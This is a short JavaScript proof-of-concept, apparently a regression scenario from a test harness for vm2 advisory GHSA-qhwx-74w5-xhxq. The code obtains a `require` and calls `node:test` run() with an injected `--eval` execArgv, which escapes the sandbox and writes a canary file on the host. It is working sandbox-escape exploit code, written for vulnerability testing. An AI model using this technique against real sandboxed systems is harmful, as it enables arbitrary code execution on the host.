// Source: vm2 advisory GHSA-qhwx-74w5-xhxq (test/ghsa/GHSA-qhwx-74w5-xhxq/ in vm2's repository; fixed after vm2 3.11.2, by 3.12.2): `node:test` run() starts a separate host Node process with attacker execArgv.
// The chain below follows the advisory's repro.js, or vm2's lib/ comment for it where the repro was not read.
// NodeVM only: the advisory needs NodeVM's `require`. A scenario runs in a plain vm2 VM with no
// `require`, `module` or `process`, so the PoC first looks for every way to a `require` the public
// PoCs use (`__wr.eachRequire`), then runs the advisory's chain with whatever it found.
// Tried: require('node:test').run({execArgv: ['--eval=…']}).
const out = {};
await __wr.eachRequire(out, async (req, label) => {
  try {
    req('node:test').run({ files: [], execArgv: ['--eval=require("fs").writeFileSync(' + JSON.stringify(query.canaryFile) + ', "test")'] });
  } catch (e) { out[label + 'Chain'] = String(e && e.message).slice(0, 60); }
});
return out;
